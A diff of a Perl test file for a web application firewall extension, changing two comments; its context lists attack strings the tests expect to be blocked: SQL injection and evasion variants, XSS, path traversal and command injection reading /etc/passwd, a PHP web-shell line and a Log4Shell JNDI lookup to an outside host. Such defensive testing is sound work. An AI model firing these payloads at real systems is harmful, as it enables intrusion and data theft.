@@ -61,7 +61,7 @@ sub everywhere {
     );
 }
 
-# Where the Core Rule Set does not look, and Guard's own rules do.
+# Where the Core Rule Set does not look, and the extension does.
 sub beyond {
     my ($value) = @_;
     return (
@@ -126,7 +126,7 @@ is_deeply \%minded, \%expected, 'ordinary requests pass, and match no rule' or d
 
 my @attacks = ("1' or '1'='1' -- ", '<script>alert(1)</script>', '../../../../etc/passwd', '; cat /etc/passwd', '<?php system($_GET[0]); ?>', '$(id)', "\xbcscript\xbealert(1)\xbc/script\xbe", '(system)(ls);', '(alert)(1)', '${jndi:ldap://x.example/a}');
 my @places  = named(\&everywhere, @attacks);
-# What the Core Rule Set lets pass, and Guard's own rules do not.
+# What the Core Rule Set lets pass, and the extension does not.
 my @own = named(\&beyond, '1 or 1=1', '1 union select 1,2 from x', '1/**/and/**/1=(select 1)', '1 AND 2752=LIKE(CHAR(65,66),UPPER(HEX(RANDOMBLOB(500000000/2))))');
 push @own, named(
     sub {
